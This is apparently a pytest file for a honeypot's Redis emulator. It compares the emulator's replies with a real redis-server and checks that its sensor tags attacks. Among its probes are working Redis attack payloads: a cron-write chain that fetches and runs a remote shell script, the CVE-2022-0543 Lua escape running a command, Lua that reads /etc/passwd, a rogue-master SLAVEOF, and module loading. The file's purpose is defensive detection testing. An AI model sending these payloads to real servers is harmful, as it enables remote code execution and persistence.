"""Redis (emu/redis.c) side by side with Debian 12's redis-server 7.0.15
on loopback, run with the persona's config (Debian's redis.conf, bind and
protected-mode opened, no password): the same inputs to both (greetings,
errors for malformed requests, unknown commands, bad AUTH, over-long lines,
pipelining, early close, a first packet of garbage, what bots send); the
answers must be the same bytes and the same close once per-instance values
are masked (mask() says which: run_id, PID, times, ids, client ports,
counters). One test per probe; a difference not fixed is an xfail with its
reason. Then real clients (redis-cli, redis-py), the cron-write playbook as
bots type it (events and tags), nmap -sV and its redis-info script on both."""
import re
import shutil
import socket
import subprocess
import time

from concurrent.futures import ThreadPoolExecutor

import pytest

import daemons
from conftest import persona

persona("linux")

REDIS = shutil.which("redis-server")
if not REDIS or not shutil.which("redis-cli"):
    pytest.fail("redis-server and redis-cli are needed (sh tools/deps.sh persona)",
                pytrace=False)


@pytest.fixture(scope="module")
def real(tmp_path_factory):
    """Debian's redis-server with the persona's config, on a free port."""
    with daemons.redis_server(tmp_path_factory.mktemp("redis")) as (_, port):
        yield port


@pytest.fixture
def rport(sensor):
    return sensor.port(6379)


def probe(port, steps, wait=0.4):
    """Send each step (bytes; "SHUT": half-close; a float: a pause), read
    until quiet: (bytes, how it ended: "open", "eof" or "rst")."""
    s = socket.create_connection(("127.0.0.1", port), 3)
    for st in steps:
        if st == "SHUT":
            s.shutdown(socket.SHUT_WR)
        elif isinstance(st, float):
            time.sleep(st)
        else:
            s.sendall(st)
            time.sleep(0.05)
    got, end = b"", "open"
    s.settimeout(wait)
    deadline = time.time() + 5
    while time.time() < deadline:
        try:
            d = s.recv(65536)
        except socket.timeout:
            break
        except ConnectionResetError:
            end = "rst"
            break
        if not d:
            end = "eof"
            break
        got += d
    s.close()
    return got, end


# INFO fields whose values are the instance's or its history's: the daemon's
# identity (run_id, PID, replid), where it runs (os, paths, ports, memory
# of the machine), its clock, and counters since its start (memory, CPU,
# stats, error counts: the real one has served earlier probes)
INFO_INSTANCE = {
    "os", "process_id", "process_supervised", "run_id", "tcp_port",
    "server_time_usec", "uptime_in_seconds", "uptime_in_days", "lru_clock",
    "executable", "config_file", "rdb_last_save_time", "master_replid",
    "rdb_changes_since_last_save", "connected_clients",
    "client_recent_max_input_buffer", "client_recent_max_output_buffer",
}
INFO_COUNTERS = {"# Memory", "# Stats", "# CPU", "# Errorstats"}


def mask_info(body):
    out, section = [], None
    for ln in body.split(b"\r\n"):
        if ln.startswith(b"# "):
            section = ln.decode()
            out.append(ln)
            continue
        k, sep, v = ln.partition(b":")
        if sep and (k.decode() in INFO_INSTANCE or section in INFO_COUNTERS):
            if section == "# Errorstats":
                continue  # the real one's errors so far
            v = b"<instance>"
        out.append(k + sep + v)
    return b"\r\n".join(out)


def mask(data):
    """Per-instance values out of an answer: INFO's (re-framed), client ids
    and ports, ages, times, script SHA1s stay (they are the script's)."""
    out, pos = b"", 0
    for m in re.finditer(rb"\$(\d+)\r\n# Server\r\n", data):
        if m.start() < pos:
            continue
        start = m.end() - len(b"# Server\r\n")
        end = start + int(m.group(1))
        out += data[pos:m.start()] + b"$INFO\r\n" + mask_info(data[start:end])
        pos = end
    data = out + data[pos:]
    data = re.sub(rb"\bid=\d+", b"id=<id>", data)
    data = re.sub(rb"\baddr=([0-9.]+):\d+", rb"addr=\1:<port>", data)
    data = re.sub(rb"\bladdr=([0-9.]+):\d+", rb"laddr=\1:<port>", data)
    data = re.sub(rb"\bage=\d+", b"age=<s>", data)
    data = re.sub(rb"\bidle=\d+", b"idle=<s>", data)  # a loaded machine: 1
    data = re.sub(rb"\bfd=\d+", b"fd=<fd>", data)
    data = re.sub(rb"\$2\r\nid\r\n:\d+", b"$2\r\nid\r\n:<id>", data)
    return data


def info_bulk_fix(data):
    # CLIENT LIST's line length follows the id and port digits
    return re.sub(rb"^\$\d+\r\nid=", b"$<n>\r\nid=", data)


TLS_HELLO = bytes.fromhex("16030100a5010000a10303") + bytes(32) + bytes.fromhex(
    "000020c02bc02fc02cc030cca9cca8c009c013c00ac014009c009d002f0035c012")


def resp(*words):
    out = b"*%d\r\n" % len(words)
    for w in words:
        w = w if isinstance(w, bytes) else w.encode()
        out += b"$%d\r\n%s\r\n" % (len(w), w)
    return out


CVE_2022_0543 = (
    'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0",'
    ' "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); '
    'local res = f:read("*a"); f:close(); return res')

# name: steps, or (steps, xfail reason)
PROBES = {
    # --- greetings and the simplest answers
    "silent": [],
    "ping_inline": [b"PING\r\n"],
    "ping_lf": [b"PING\n"],
    "ping_arg": [b"ping hello\r\n"],
    "ping_resp": [resp("PING")],
    "ping_too_many": [b"PING a b\r\n"],
    "echo": [resp("ECHO", "hi there")],
    "hello": [b"HELLO\r\n"],
    "hello_3": [b"HELLO 3\r\nGET nothing\r\nPING\r\n"],
    "hello_4": [b"HELLO 4\r\n"],
    "hello_x": [b"HELLO x\r\n"],
    "quit": [b"QUIT\r\nPING\r\n"],
    "empty_lines": [b"\r\n\r\n\n"],
    "time_role": [b"ROLE\r\n"],
    "command_count": [b"COMMAND COUNT\r\n"],
    # --- help texts
    "config_help": [b"CONFIG HELP\r\n"],
    "client_help": [b"client help\r\n"],
    "help_others": [b"MODULE HELP\r\nCOMMAND HELP\r\nOBJECT HELP\r\n"
                    b"ACL HELP\r\nCLUSTER HELP\r\n" + resp("XINFO", "HELP")],
    "help_arity": [b"CONFIG HELP x\r\n"],
    # --- unknown commands, arity, subcommands
    "unknown": [b"FOO\r\n"],
    "unknown_args": [b"foo a b\r\n"],
    "unknown_long_args": [b"foo " + b"a" * 100 + b" " + b"b" * 100 + b"\r\n"],
    "unknown_long_name": [b"x" * 300 + b" y\r\n"],
    "unknown_crlf_arg": [resp("FOO", "a\r\nb")],
    "unknown_pipe": [b"config|get dir\r\n"],
    "arity_get": [b"GET\r\n"],
    "arity_config": [b"CONFIG\r\n"],
    "arity_config_get": [b"CONFIG GET\r\n"],
    "subcommand_unknown": [b"CONFIG FOO\r\nCLIENT bar\r\nCLUSTER x\r\n"],
    "client_setinfo": [b"CLIENT SETINFO LIB-NAME redis-py\r\n"],
    "syntax": [b"SET a b c\r\nFLUSHALL x\r\n"],
    # --- AUTH with no password set
    "auth_one": [b"AUTH x\r\n"],
    "auth_user": [b"AUTH a b\r\n"],
    "auth_default": [b"AUTH default anything\r\n"],
    "auth_three": [b"AUTH a b c\r\n"],
    # --- malformed requests: the protocol errors, then a close
    "mbulk_letter": [b"*x\r\n"],
    "mbulk_leading_zero": [b"*01\r\n$4\r\nPING\r\n"],
    "mbulk_plus": [b"*+1\r\n$4\r\nPING\r\n"],
    "mbulk_negative": [b"*-1\r\nPING\r\n"],
    "mbulk_zero": [b"*0\r\nPING\r\n"],
    "mbulk_huge_waits": [b"*1048577\r\n"],
    "expected_dollar": [b"*2\r\n$3\r\nGET\r\nx\r\n"],
    "bulk_negative": [b"*2\r\n$-1\r\n"],
    "bulk_over_512mb": [b"*2\r\n$536870913\r\n"],
    "bulk_crlf_unchecked": [b"*1\r\n$4\r\nPINGxx"],
    "dollar_inline": [b"$3\r\n"],
    "unbalanced": [b'GET "abc\r\n'],
    "unbalanced_single": [b"GET 'abc\r\n"],
    "quote_then_char": [b'GET "a"b\r\n'],
    "quoted_escapes": [b'ECHO "a\\x41\\n\\t\\"b" \'c\\\'d\'\r\n'],
    "nul_in_line_waits": [b"PING\x00\r\n"],
    # --- over-long lines
    "inline_too_big": [b"A" * 70000],
    "mbulk_count_too_big": [b"*" + b"1" * 70000],
    "inline_long_line": ([b"A" * 10000 + b"\r\nPING\r\n"],
                         "lines over 2 KiB are read and not answered"),
    # --- pipelining, early close, garbage first
    "pipeline_inline": [b"PING\r\nECHO a\r\nPING b\r\n"],
    "pipeline_resp": [resp("PING") + resp("ECHO", "x") + resp("DBSIZE")],
    "big_set": [resp("SET", "big", "A" * 20000) + resp("STRLEN", "big")
                + resp("DEL", "big")],
    "big_unknown": [resp("FOO", "x" * 9000, "y")],
    "big_then_ping": [resp("SET", "k", "z" * 5000)[:3000], 0.2,
                      resp("SET", "k", "z" * 5000)[3000:] + b"PING\r\n"
                      + resp("STRLEN", "k") + resp("DEL", "k")],
    "big_bad_dollar": [b"*3\r\n$4\r\nECHO\r\n$5000\r\n" + b"q" * 5000
                       + b"\r\nx\r\n"],
    "big_echo": ([resp("ECHO", "e" * 5000)],
                 "words of a request over the input buffer are kept cut"),
    "pipeline_split": [b"*2\r\n$4\r\nEC", b"HO\r\n$2\r\nhi\r\n"],
    "early_close": [b"PING\r\n", "SHUT"],
    "close_mid_request": [b"*2\r\n$4\r\nECHO\r\n", "SHUT"],
    "tls_hello": [TLS_HELLO],
    "garbage_256": [bytes(range(256))],
    "http_get": [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"],
    "http_post": [b"POST / HTTP/1.1\r\n\r\n"],
    "http_get_10": [b"GET / HTTP/1.0\r\n\r\n"],
    # --- what bots send
    "info": [b"INFO\r\n"],
    "info_resp": [resp("INFO")],
    "info_server": [b"INFO server\r\n"],
    "info_two": [b"INFO server clients\r\n"],
    "info_unknown": [b"INFO foo\r\n"],
    # answers over the output buffer, made in parts
    "info_pipelined": [b"INFO\r\n" * 6 + b"PING\r\n"],
    "config_get_dir": [b"CONFIG GET dbfilename\r\n"],
    "config_get_upper": [b"CONFIG GET DBFILENAME\r\n"],
    "config_get_pattern": [b"CONFIG GET *max-*-entries*\r\n"],
    "config_set_dir": [b"CONFIG SET dir /var/spool/cron/crontabs\r\n"],
    "config_set_dbfilename": [resp("CONFIG", "SET", "dbfilename", "root")],
    "config_set_unknown": [b"CONFIG SET foo bar\r\n"],
    "config_set_odd": [b"CONFIG SET a b c\r\n"],
    "config_set_ok": [b"CONFIG SET stop-writes-on-bgsave-error no\r\n"],
    # (KEYS with one key at a time: the order of several is the instance's
    # hash seed's)
    "keyspace": [b"FLUSHALL\r\nSET x 1\r\nSET y 2\r\nGET x\r\n"
                 b"DBSIZE\r\nEXISTS x y z\r\nTYPE x\r\nTTL x\r\nTTL z\r\n"
                 b"DEL x\r\nKEYS *\r\nFLUSHDB\r\nDBSIZE\r\n"],
    "keys_pattern": [b"FLUSHALL\r\nSET abc 1\r\nSET xbd 2\r\nSET b 3\r\n"
                     b"KEYS a?c\r\nKEYS x[b]d\r\nKEYS [^ax]*\r\nKEYS *d\r\n"
                     b"KEYS A*\r\nKEYS \\a*\r\nFLUSHALL\r\n"],
    "set_options": [b"FLUSHALL\r\nSET k v NX\r\nSET k w NX\r\nGET k\r\n"
                    b"SET k v EX 10\r\nSET k v EX x\r\nSET q v XX\r\n"
                    b"FLUSHALL\r\n"],
    "cron_value": [b'FLUSHALL\r\nSET x "\\n\\n*/1 * * * * curl -fsSL '
                   b'http://192.0.2.9/x.sh | sh\\n\\n"\r\nGET x\r\nFLUSHALL\r\n'],
    "select": [b"SELECT 1\r\nSELECT 16\r\nSELECT x\r\nSELECT -1\r\n"],
    "slaveof": [b"SLAVEOF 127.0.0.1 1\r\nSLAVEOF NO ONE\r\n"],
    "replicaof_bad_port": [b"REPLICAOF 127.0.0.1 x\r\nREPLICAOF 1.2.3.4 70000\r\n"],
    "module_load": [b"MODULE LOAD /tmp/exp.so\r\n"],
    "module_list": [b"MODULE LIST\r\n"],
    "eval_cve": [resp("EVAL", CVE_2022_0543, "0")],
    "eval_os": [resp("EVAL", "return os.execute('id')", "0")],
    "eval_second_line": [resp("EVAL", "local a = 1\nreturn dofile('/etc/passwd')", "0")],
    "eval_return": [b'EVAL "return 1" 0\r\nEVAL "return \'a\'" 0\r\n'],
    "eval_numkeys": [b'EVAL "return 1" 2\r\nEVAL "return 1" -1\r\n'
                     b'EVAL "return 1" x\r\n'],
    "evalsha": [b"EVALSHA 0123 0\r\n"],
    "client_name": [b"CLIENT SETNAME bot\r\nCLIENT GETNAME\r\n"],
    "client_list": [b"CLIENT LIST\r\n"],
    "pubsub_cluster": [b"PUBSUB CHANNELS\r\nCLUSTER NODES\r\nACL WHOAMI\r\n"],
}


UNORDERED = {"config_get_pattern"}


def pairs_sorted(data):
    """A flat array of bulk strings as (name, value) pairs, sorted."""
    words = re.findall(rb"\$\d+\r\n([^\r]*)\r\n", data)
    head = data.split(b"\r\n", 1)[0]
    return head, sorted(zip(words[0::2], words[1::2]))


@pytest.mark.parametrize("name", list(PROBES))
def test_diff(name, real, rport):
    steps = PROBES[name]
    if isinstance(steps, tuple):
        steps, why = steps
        pytest.xfail(why)
    got_real = probe(real, steps)
    got_lure = probe(rport, steps)
    a = (info_bulk_fix(mask(got_real[0])), got_real[1])
    b = (info_bulk_fix(mask(got_lure[0])), got_lure[1])
    if name in UNORDERED:  # several pairs: their order is the hash seed's
        a, b = (pairs_sorted(a[0]), a[1]), (pairs_sorted(b[0]), b[1])
    assert b == a


def test_info_fields_are_the_daemon_s(real, rport):
    """INFO's fields are the daemon's, in its order; run_id is 40 hex digits
    (the instance's), server_time_usec the clock's."""
    names = []
    for port in (real, rport):
        body = probe(port, [b"INFO\r\n"])[0]
        names.append([ln.split(b":")[0] for ln in body.split(b"\r\n")
                      if b":" in ln and not ln.startswith(b"errorstat_")])
    assert names[0] == names[1]
    body = probe(rport, [b"INFO server\r\n"])[0].decode()
    run_id = re.search(r"run_id:([0-9a-f]+)\r\n", body).group(1)
    assert len(run_id) == 40
    t = int(re.search(r"server_time_usec:(\d+)", body).group(1))
    assert abs(t / 1e6 - time.time()) < 60


# --- real clients -------------------------------------------------------


def cli(port, *args):
    r = subprocess.run(["redis-cli", "-p", str(port), *args],
                       capture_output=True, timeout=10)
    return r.stdout


def test_redis_cli(real, rport):
    """redis-cli gets the same answers from both (INFO's instance values
    aside)."""
    for args in (["PING"], ["CONFIG", "GET", "dbfilename"], ["DBSIZE"],
                 ["SET", "k", "v"], ["GET", "nope"], ["FOO", "bar"],
                 ["AUTH", "x"], ["EVAL", "return 7", "0"]):
        assert cli(rport, *args) == cli(real, *args), args
    info = cli(rport, "INFO", "server").decode()
    assert "redis_version:7.0.15" in info
    assert "os:Linux " in info


def test_redis_py(real, rport, sensor):
    """redis-py (its CLIENT SETINFO at connect refused as 7.0 refuses it)."""
    redis = pytest.importorskip("redis")
    for port in (real, rport):
        r = redis.Redis(port=port, socket_timeout=3)
        assert r.ping() is True
        assert r.info()["redis_version"] == "7.0.15"
        assert r.config_get("dbfilename") == {"dbfilename": "dump.rdb"}
        assert r.set("k", "v") is True
        assert r.get("k") == b"v"
        with pytest.raises(redis.ResponseError, match="protected config"):
            r.config_set("dir", "/root/.ssh")
        r.flushall()
        r.close()
    ev = sensor.wait_event("exploit", rule__name="redis-config-write")
    assert ev["lure"]["redis"]["value"] == "/root/.ssh"
    assert "ssh_keys" in ev["tags"]


def test_cron_playbook(sensor, rport):
    """The cron-write attack as bots type it, one line at a time; events:
    a command per line, the URL an indicator, an exploit per CONFIG SET."""
    lines = [b"FLUSHALL",
             b'SET x "\\n\\n*/1 * * * * curl -fsSL http://192.0.2.9/x.sh | sh\\n\\n"',
             b"CONFIG SET dir /var/spool/cron/crontabs",
             b"CONFIG SET dbfilename root",
             b"SAVE", b"QUIT"]
    got = probe(rport, [ln + b"\r\n" for ln in lines])
    assert got == (b"+OK\r\n+OK\r\n"
                   b"-ERR CONFIG SET failed (possibly related to argument "
                   b"'dir') - can't set protected config\r\n"
                   b"-ERR CONFIG SET failed (possibly related to argument "
                   b"'dbfilename') - can't set protected config\r\n"
                   b"+OK\r\n+OK\r\n", "eof")
    cmds = sensor.wait_count(6, "command")
    assert [c["lure"]["redis"]["args"][0] for c in cmds] == [
        "FLUSHALL", "SET", "CONFIG", "CONFIG", "SAVE", "QUIT"]
    assert cmds[1]["lure"]["indicators"]["url"] == ["http://192.0.2.9/x.sh"]
    assert cmds[1]["lure"]["redis"]["args"][2].startswith("\n\n*/1 * * * *")
    assert cmds[2]["event"]["outcome"] == "failure"
    ex = sensor.wait_count(2, "exploit")
    assert [e["lure"]["redis"]["value"] for e in ex] == [
        "/var/spool/cron/crontabs", "root"]
    assert ex[0]["tags"] == ["redis", "config_write", "cron"]
    assert ex[0]["rule"]["name"] == "redis-config-write"


def test_rogue_master_and_cve(sensor, rport):
    """SLAVEOF's host and port recorded (never contacted), MODULE LOAD's
    path, CVE-2022-0543's Lua escape."""
    probe(rport, [b"SLAVEOF 192.0.2.7 21000\r\nMODULE LOAD /tmp/exp.so\r\n",
                  resp("EVAL", CVE_2022_0543, "0")])
    m = sensor.wait_event("exploit", rule__name="redis-rogue-master")
    assert m["lure"]["redis"]["master_host"] == "192.0.2.7"
    assert m["lure"]["redis"]["master_port"] == 21000
    assert sensor.wait_event("exploit", rule__name="redis-module-load"
                             )["file"]["path"] == "/tmp/exp.so"
    lua = sensor.wait_event("exploit", rule__name="redis-lua-escape")
    assert lua["vulnerability"]["id"] == "CVE-2022-0543"


# --- nmap ---------------------------------------------------------------


def nmap(port, tmp_path, script=None):
    xml = tmp_path / f"nmap{port}.xml"
    cmd = ["nmap", "-n", "-Pn", "-sV", "-p", str(port), "-oX", str(xml)]
    if script:
        cmd += ["--script", script]
    subprocess.run(cmd + ["127.0.0.1"], capture_output=True, timeout=300)
    import xml.etree.ElementTree as ET
    port_el = ET.parse(xml).getroot().find("host/ports/port")
    svc = port_el.find("service")
    scripts = {s.get("id"): s for s in port_el.findall("script")}
    return svc.attrib, scripts


def test_nmap_names_lure_as_redis(real, rport, tmp_path):
    """nmap -sV: the same service, product and version as the real daemon;
    redis-info reports the same fields (values aside: PID, CPU, memory,
    the client's address list)."""
    with ThreadPoolExecutor(2) as ex:  # both at once
        (a, sa), (b, sb) = ex.map(
            lambda p: nmap(p, tmp_path, "redis-info"), (real, rport))
    for k in ("name", "product", "version", "extrainfo"):
        assert b.get(k) == a.get(k), k
    assert a["product"].startswith("Redis")

    def keys(s):
        return [e.get("key") for e in s["redis-info"].iter("elem")] + [
            t.get("key") for t in s["redis-info"].iter("table")]
    assert keys(sb) == keys(sa)
